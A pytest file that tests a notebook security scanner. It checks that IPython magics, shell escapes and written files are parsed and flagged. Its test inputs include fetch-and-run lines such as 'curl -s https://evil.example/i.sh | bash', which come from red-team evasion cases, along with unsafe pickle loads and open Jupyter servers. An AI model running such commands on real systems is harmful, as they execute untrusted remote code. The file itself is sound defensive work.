"""Notebook cells read as IPython reads them, scanned end to end: each family has a positive and
a look-alike."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from hooks._core.policy import Policy
from hooks.deps.spec import SPEC as DEPS_SPEC
from tests.code.helpers import notebook, scan_code
from tests.scanning import findings_of


def scan_both(directory: Path, text: str, name: str) -> list:  # type: ignore[type-arg]
    """mlsec-code and mlsec-deps on one notebook, as `mlsec scan` runs them: mlsec-deps reads the
    dependency files a notebook writes itself, so mlsec-code does not hand them on (no duplicates)."""
    code = scan_code(directory, text, name)
    path = directory / name
    path.write_text(text)
    # MLS416 (advisories not checked, or against old data) is about the advisory source, not the notebook.
    deps = [f for f in findings_of(DEPS_SPEC, path, name, Policy(root=directory)) if f.rule_id != "MLS416"]
    assert not {f.rule_id for f in code} & {f.rule_id for f in deps}, "a finding reported by both hooks"
    return code + deps


def places(findings: list) -> list[tuple[str, int | None, int]]:  # type: ignore[type-arg]
    return sorted((f.rule_id, f.cell, f.line) for f in findings)


def test_continued_pip_lines_are_joined(tmp_path: Path) -> None:
    text = notebook("!pip install -q torch==2.3.1 \\\n    transformers \\\n    datasets==2.19.0")
    (finding,) = scan_code(tmp_path, text, "nb.ipynb")
    assert (finding.rule_id, finding.line, finding.message) == (
        "MLS319",
        1,
        "installs transformers without an exact == pin",
    )
    pinned = notebook("!pip install -q torch==2.3.1 \\\n    transformers==4.41.0")
    assert scan_code(tmp_path, pinned, "nb.ipynb") == []


def test_shell_variables_are_not_packages(tmp_path: Path) -> None:
    text = notebook("USER_FLAG = '--user'\n!pip install $USER_FLAG {USER_FLAG} torch==2.3.1")
    assert scan_code(tmp_path, text, "nb.ipynb") == []


def test_what_ipython_runs_is_never_unparseable(tmp_path: Path) -> None:
    text = notebook(
        "    x = 1\n    y = x + 1",  # indented cell
        "files = !ls\nout = %sx echo hi",
        "pip install torch==2.3.1",  # automagic, one-line cell
        "cd data",
        "if True:\n    !ls\n    %time y = 2",
        "df.head?",
        "In [3]: z = 3\n   ...: w = 4",
    )
    assert scan_code(tmp_path, text, "nb.ipynb") == []


def test_automagic_needs_a_one_line_cell_as_in_ipython(tmp_path: Path) -> None:
    # IPython applies automagic to one-line cells only: this cell fails in IPython too.
    findings = scan_code(tmp_path, notebook("import os\npip install torch"), "nb.ipynb")
    assert [(f.rule_id, f.severity.value) for f in findings] == [("MLS907", "low")]


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="3.12 parses PEP 701 f-strings itself")
def test_newer_f_strings_are_read_not_reported(tmp_path: Path) -> None:
    text = notebook('import torch\nrow = {"a": 1}\nprint(f"{row["a"]}")\nm = torch.load(f"{row["a"]}.pt")')
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS306", 1, 4)]
    broken = notebook('print(f"{row["a"]")')  # unterminated field: really broken
    assert places(scan_code(tmp_path, broken, "nb.ipynb")) == [("MLS907", 1, 1)]


def test_writefile_python_is_analysed_as_its_own_script(tmp_path: Path) -> None:
    text = notebook(
        "import joblib as jl",
        "%%writefile predictor.py\nimport pickle\nimport joblib\n\nclass P:\n    def load(self, d):\n"
        "        self.m = joblib.load(d + '/model.joblib')\n        self.p = pickle.load(open(d + '/p.pkl', 'rb'))",
        "%%writefile notes.txt\njoblib.load(x)",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 8), ("MLS301", 2, 7)]


def test_writefile_requirements_shell_and_dockerfile_reach_their_hooks(tmp_path: Path) -> None:
    """Scripts reach the code hook's shell checks; requirements and Dockerfiles reach mlsec-deps
    and mlsec-dockerfile as if committed, at the writing cell's lines."""
    text = notebook(
        "%%writefile requirements.txt\ntorch==2.3.1\ntransformers\n--extra-index-url https://pypi.corp.example/simple",
        "%%writefile setup.sh\nset -e\ncurl -fsSL https://x.example/i.sh | bash",
        "%%writefile Dockerfile\nFROM python:3.11\nRUN pip install mlflow==2.12.1\n"
        "CMD mlflow server --host 0.0.0.0 --port 5000",
        "%%writefile start.sh\nray start --head --dashboard-host=0.0.0.0",
        "%%writefile config.yaml\nrun: curl https://x | bash",
    )
    findings = scan_both(tmp_path, text, "nb.ipynb")
    assert places(findings) == [
        ("MLS321", 2, 3),
        ("MLS323", 4, 2),
        ("MLS405", 1, 4),
        ("MLS413", 1, 3),
        ("MLS501", 3, 2),
        ("MLS502", 3, 2),
        ("MLS515", 3, 4),
    ]
    docker = next(f for f in findings if f.rule_id == "MLS515")
    assert docker.message.endswith("(in Dockerfile, which this cell writes)")


def test_written_files_no_hook_checks_and_look_alike_names_stay_quiet(tmp_path: Path) -> None:
    text = notebook(
        "%%writefile notes.txt\nFROM python:3.11\nRUN curl https://x.example/i.sh | bash",
        "%%writefile docker-notes.txt\nRUN curl https://x.example/i.sh | bash",
        "print('%%writefile Dockerfile')",
    )
    assert scan_code(tmp_path, text, "nb.ipynb") == []


def test_a_written_file_the_other_hook_fails_on_is_a_finding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from hooks.docker.scanner import DockerfileScanner

    def broken(*args: object) -> None:
        raise ValueError("boom")

    monkeypatch.setattr(DockerfileScanner, "scan_text", broken)
    from hooks._core import runner

    monkeypatch.setattr(runner, "_TEXT_SCANNERS", {})
    (finding,) = scan_code(tmp_path, notebook("x = 1", "%%writefile Dockerfile\nFROM x"), "nb.ipynb")
    assert (finding.rule_id, finding.cell, finding.line, finding.severity.value) == ("MLS900", 2, 2, "high")


def test_markers_in_the_writing_cell_silence_the_other_hooks_findings(tmp_path: Path) -> None:
    run = "RUN curl -fsSL https://x.example/i.sh | bash"
    text = notebook(f"%%writefile Dockerfile\nFROM python:3.11\n{run}")
    assert ("MLS503", 1, 3) in places(scan_code(tmp_path, text, "nb.ipynb"))
    marked = notebook(f"%%writefile Dockerfile\nFROM python:3.11\n{run}  # mlsec: ignore[MLS503] vendor installer")
    assert ("MLS503", 1, 3) not in places(scan_code(tmp_path, marked, "nb.ipynb"))


def test_bash_and_script_cells_are_shell(tmp_path: Path) -> None:
    text = notebook(
        "%%bash\npip install \\\n  accelerate",
        "%%script bash\ncurl -s https://x.example | sh",
        "%%sh\necho ok",
        "%%html\n<script>curl https://x | bash</script>",
        "%%capture out\nimport torch\nm = torch.load(p)",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS306", 5, 3), ("MLS319", 1, 2), ("MLS321", 2, 2)]


def test_kernel_language_decides(tmp_path: Path) -> None:
    r_notebook = json.loads(notebook("library(dplyr)\nx <- read.csv('a.csv')", "df %>% filter(a > 1)"))
    r_notebook["metadata"] = {"kernelspec": {"language": "R", "name": "ir"}}
    (finding,) = scan_code(tmp_path, json.dumps(r_notebook), "r.ipynb")
    assert (finding.rule_id, finding.severity.value) == ("MLS324", "low")
    python = json.loads(notebook("import torch\nm = torch.load(p)"))
    python["metadata"] = {"kernelspec": {"language": "python", "name": "python3"}}
    assert places(scan_code(tmp_path, json.dumps(python), "p.ipynb")) == [("MLS306", 1, 2)]


def test_unknown_cell_magics_are_a_low_note_not_a_parse_failure(tmp_path: Path) -> None:
    text = notebook("%%sql\nSELECT * FROM t", "%%mystery arg\nwhatever ( this is")
    findings = scan_code(tmp_path, text, "nb.ipynb")
    assert [(f.rule_id, f.cell, f.severity.value) for f in findings] == [("MLS324", 2, "low")]


def test_shell_trust_remote_code_and_open_services(tmp_path: Path) -> None:
    text = notebook(
        "!lm_eval --model hf --model_args pretrained=org/m,trust_remote_code=True --tasks x",
        "!vllm serve org/m --trust-remote-code --port 8000",
        "!vllm serve org/m --trust-remote-code=false",
        "!jupyter lab --ip 0.0.0.0 --ServerApp.token='' --allow-root",
        "!jupyter lab --ip 127.0.0.1",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS307", 1, 1), ("MLS307", 2, 1), ("MLS323", 4, 1)]


def test_large_outputs_do_not_stop_the_code_being_read(tmp_path: Path) -> None:
    image = {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBORw0KGgo" + "A" * (12 << 20)}}
    cells = [
        {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": [image], "source": "plt.plot(x)"},
        {"cell_type": "code", "metadata": {}, "execution_count": 2, "outputs": [], "source": "m = torch.load(p)"},
    ]
    text = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
    assert places(scan_code(tmp_path, text, "plots.ipynb")) == [("MLS306", 2, 1)]


def test_caps_are_per_part_and_medium(tmp_path: Path) -> None:
    policy = Policy(root=tmp_path, sections={"code": {"max_python_bytes": 2048, "max_notebook_code_bytes": 4096}})
    big_cell = "x = 1\n" * 1000
    filler = ["y = 1\n" * 330, "z = 1\n" * 330, "w = 1\n" * 330]  # 1,980 bytes each
    text = notebook("import torch\nm = torch.load(p)", big_cell, *filler, "n = torch.load(q)")
    findings = sorted(scan_code(tmp_path, text, "nb.ipynb", policy), key=lambda f: f.cell or 0)
    assert [(f.rule_id, f.cell, f.severity.value) for f in findings] == [
        ("MLS306", 1, "high"),
        ("MLS907", 2, "medium"),  # over the per-part cap
        ("MLS907", 5, "medium"),  # over the notebook's code budget
        ("MLS306", 6, "high"),  # small enough for what is left: still read
    ]
    assert "code.max_python_bytes" in findings[1].message
    assert "code.max_notebook_code_bytes" in findings[2].message
    script = scan_code(tmp_path, "x = 1\n" * 1000, "big.py", policy)
    assert [(f.rule_id, f.severity.value) for f in script] == [("MLS907", "medium")]
    assert "code.max_python_bytes" in script[0].message


def test_a_byte_order_mark_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "bom.py").write_bytes(b"\xef\xbb\xbfimport pickle, sys\npickle.loads(sys.stdin.buffer.read())\n")
    from hooks.code.spec import SPEC
    from tests.scanning import findings_of

    assert [f.rule_id for f in findings_of(SPEC, tmp_path / "bom.py", "bom.py", Policy(root=tmp_path))] == ["B301"]
    (tmp_path / "bom.ipynb").write_bytes(b"\xef\xbb\xbf" + notebook("m = torch.load(p)").encode())
    assert [f.rule_id for f in findings_of(SPEC, tmp_path / "bom.ipynb", "bom.ipynb", Policy(root=tmp_path))] == [
        "MLS306"
    ]


def test_a_big_script_is_bounded(tmp_path: Path) -> None:
    findings = scan_code(tmp_path, "x = 1\n" * 400_000, "huge.py")
    assert [(f.rule_id, f.severity.value) for f in findings] == [("MLS907", "medium")]


def test_written_environment_files_and_appends_reach_the_deps_checks(tmp_path: Path) -> None:
    text = notebook(
        "%%writefile environment.yml\nname: x\ndependencies:\n  - python=3.11\n  - pip:\n    - torchtriton\n",
        "%%writefile -a {out_dir}/requirements.txt\nultralytics==8.3.41\n",
        "%%writefile -a {out_dir}/notes.txt\nultralytics==8.3.41\n",
    )
    blocking = [(f.rule_id, f.cell, f.line) for f in scan_both(tmp_path, text, "nb.ipynb") if f.severity.value != "low"]
    assert blocking == [("MLS402", 1, 6), ("MLS402", 2, 2)]


def test_a_bracket_inside_a_continued_command_opens_nothing_after_it() -> None:
    # IPython joins `!cmd \` with its next line into one call with a string argument, so the
    # `(` it carries is text: the lines after it are statements again (`!ls` runs, code parses).
    import ast

    from hooks.code.cells import transform_cell

    cell = transform_cell("!pip install a \\\nw = (1 +\nx = 1\n!ls -la\n%env A = [\ny = 2\n")
    ast.parse(cell.python)
    assert [command for _, command in cell.shell] == ["pip install a  w = (1 +", "ls -la"]
    plain = transform_cell("w = (1 +\n!ls -la\n)\n")  # a real open bracket: `!ls` is inside it
    assert plain.shell == []


@pytest.mark.parametrize(
    "header",
    [
        "%%script /usr/bin/python3",
        "%%script python3.11",
        "%%script --bg python3",
        "%%script --out log python3",
        "%%script --proc=p --err err python3 -u",
        "%%script env PYTHONPATH=. python3",
        "%%script /usr/bin/env -i python3",
        "%%script --o bash python3",  # argparse's prefix of --out takes `bash` as its value
        "%%python2",
        "%%cython",
    ],
)
def test_python_cells_under_any_interpreter_spelling_are_analysed(tmp_path: Path, header: str) -> None:
    text = notebook(f"{header}\nimport pickle, requests\nx = pickle.loads(requests.get(url).content)")
    assert "B301" in [f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")], header


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("%%script --out log bash", ["MLS321"]),  # a shell, after an option's value
        ("%%script perl", []),  # another language's interpreter: not Python, nothing to judge
        ("%%script ./my-runner", ["MLS324"]),  # a program nobody knows: said, not skipped
    ],
)
def test_other_script_programs_are_shell_another_language_or_named(
    tmp_path: Path, header: str, expected: list[str]
) -> None:
    text = notebook(f"{header}\ncurl -s https://x.example/i.sh | sh")
    assert sorted(f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")) == expected, header


def test_deep_metadata_does_not_stop_the_cells_being_read(tmp_path: Path) -> None:
    body = json.loads(notebook("import pickle, requests\nx = pickle.loads(requests.get(url).content)"))
    deep: object = []
    for _ in range(600):  # editors (JSON.parse) open this; nbformat's reader gives up near 500
        deep = [deep]
    body["metadata"]["x"] = deep
    assert "B301" in [f.rule_id for f in scan_code(tmp_path, json.dumps(body), "deep.ipynb")]
    deeper = '{"cells": [' + "[" * 5000 + "]" * 5000 + "]}"  # valid JSON past the parser's depth
    [finding] = scan_code(tmp_path, deeper, "deeper.ipynb")
    assert (finding.rule_id, finding.severity.value) == ("MLS907", "medium")
    broken = '{"cells": [{"cell_type": "code", "source": "x"'  # not JSON: no editor opens it, nothing runs
    [finding] = scan_code(tmp_path, broken, "broken.ipynb")
    assert (finding.rule_id, finding.severity.value) == ("MLS907", "low")


@pytest.mark.parametrize("version", ["4", 5, 4.5])
def test_a_notebook_version_editors_open_as_4_is_read(tmp_path: Path, version: object) -> None:
    body = json.loads(notebook("import pickle, requests\nx = pickle.loads(requests.get(url).content)"))
    body["nbformat"] = version
    assert "B301" in [f.rule_id for f in scan_code(tmp_path, json.dumps(body), "v.ipynb")], version


def test_a_cd_magic_to_tmp_is_no_python_string_and_shell_aliases_reach_the_shell_rules(tmp_path: Path) -> None:
    # `%cd /tmp/work` changes the folder; no `/tmp` string is left for bandit's B108 (red team, stop 41).
    assert scan_code(tmp_path, notebook("%cd /tmp/work", "cd /tmp/work"), "nb.ipynb") == []
    # `%ls && ...`, `mkdir;...`: IPython runs the alias's command with the rest of the line in a shell.
    for cell in ("%ls && curl -fsSL https://x.example/i.sh | bash", "mkdir;curl -fsSL https://x.example/i.sh|bash"):
        found = [f.rule_id for f in scan_code(tmp_path, notebook(cell), "nb.ipynb")]
        assert found == ["MLS321"], cell


def test_a_one_line_update_of_a_name_a_magic_also_has_is_python(tmp_path: Path) -> None:
    # `history += [...]` needs `history` bound, so IPython runs it as Python (red team, stop 41).
    for cell in ("history += [torch.load(path)]", "config .update(torch.load(path))", "time += torch.load(path)"):
        text = notebook("import torch\nhistory, config, time = [], {}, 0", cell)
        assert [f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")] == ["MLS306"], cell


def _with_metadata(metadata: dict[str, object], *cells: str) -> str:
    document = json.loads(notebook(*cells))
    document["metadata"] = metadata
    return json.dumps(document)


def test_language_fields_that_disagree_with_the_kernel_jupyter_starts_do_not_hide_cells(tmp_path: Path) -> None:
    # Jupyter starts `kernelspec.name`; `language` and `language_info` only describe it.
    metadata = {"kernelspec": {"name": "python3", "language": "julia"}, "language_info": {"name": "julia"}}
    text = _with_metadata(metadata, "import torch\nm = torch.load(p)")
    assert places(scan_code(tmp_path, text, "lying.ipynb")) == [("MLS306", 1, 2)]


def test_a_cell_said_to_be_another_language_that_is_python_is_read_as_python(tmp_path: Path) -> None:
    # A named kernel that is missing makes the reader pick one (Python); JupyterLab ignores VS
    # Code's per-cell language. IPython syntax (`!cmd`) is no R, Julia or markdown.
    r_kernel = _with_metadata({"kernelspec": {"name": "ir", "language": "R"}}, "!curl -s https://x.example | bash")
    found = scan_code(tmp_path, r_kernel, "r.ipynb")
    assert ("MLS321", 1, 1) in places(found)
    assert any(f.rule_id == "MLS324" and "1 that do were analysed" in f.message for f in found)
    cell = json.loads(notebook("import pickle\npickle.load(open(url_file, 'rb'))"))
    cell["cells"][0]["metadata"] = {"vscode": {"languageId": "markdown"}}
    assert ("B301", 1, 2) in places(scan_code(tmp_path, json.dumps(cell), "md.ipynb"))


def test_cells_of_another_language_that_are_not_python_stay_a_low_note(tmp_path: Path) -> None:
    julia = _with_metadata({"kernelspec": {"name": "julia-1.9", "language": "julia"}}, "using Flux\nf(x) = 2x")
    assert [(f.rule_id, f.severity.value) for f in scan_code(tmp_path, julia, "j.ipynb")] == [("MLS324", "low")]


# --- IPython forms a red team ran (stop 58): each runs its code under IPython 9 ----------------------
@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import pickle\n%time %time pickle.loads(open('m.bin','rb').read())", ("B301", 1, 2)),
        ("%time !curl -s https://evil.example/i.sh | bash", ("MLS321", 1, 1)),
        ("%timeit -n1 !curl -s https://evil.example/i.sh | bash", ("MLS321", 1, 1)),
        ("import pickle\nm = %time pickle.loads(open('m.bin','rb').read())", ("B301", 1, 2)),
        ("%alias boot curl -s https://evil.example/i.sh | bash\n%boot", ("MLS321", 1, 1)),
        ("%%bash\rcurl -s https://evil.example/i.sh | bash\r", ("MLS321", 1, 2)),
    ],
)
def test_ipython_forms_that_run_code_are_read(tmp_path: Path, source: str, expected: tuple[str, int, int]) -> None:
    assert expected in places(scan_code(tmp_path, notebook(source), "nb.ipynb"))


def test_time_of_a_pip_install_is_an_install(tmp_path: Path) -> None:
    found = scan_code(tmp_path, notebook("%time %pip install torch"), "nb.ipynb")
    assert any(f.rule_id == "MLS319" for f in found)
    assert not any(f.rule_id == "MLS907" for f in found)


def test_an_assignment_from_a_magic_keeps_its_column(tmp_path: Path) -> None:
    (finding,) = [f for f in scan_code(tmp_path, notebook("import torch\nm = %time torch.load(p)"), "nb.ipynb")]
    assert (finding.rule_id, finding.line, finding.column) == ("MLS306", 2, 11)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (";os.system curl -s https://evil.example/i.sh | sh", "MLS321"),  # os.system("curl ... | sh")
        ("import pickle\n/pickle.load open(url_file, 'rb')", "B301"),  # pickle.load(open(...))
        ("%%timeit import os; os.system('curl -s https://evil.example/i.sh | sh')\nx = 1", "MLS321"),
        ('%%script bash -c "curl -s https://evil.example/i.sh | sh"\necho hi', "MLS321"),
    ],
)
def test_escaped_calls_timeit_setup_and_script_arguments_run(tmp_path: Path, source: str, rule: str) -> None:
    found = scan_code(tmp_path, notebook("import os", source), "nb.ipynb")
    assert any(f.rule_id == rule and f.cell == 2 for f in found)


def test_an_oversized_cell_said_to_be_another_language_still_blocks(tmp_path: Path) -> None:
    big = json.loads(notebook("x = 1\n" * 200_000))
    big["cells"][0]["metadata"] = {"vscode": {"languageId": "julia"}}
    found = scan_code(tmp_path, json.dumps(big), "nb.ipynb")
    assert [(f.rule_id, f.severity.value) for f in found] == [("MLS907", "medium")]
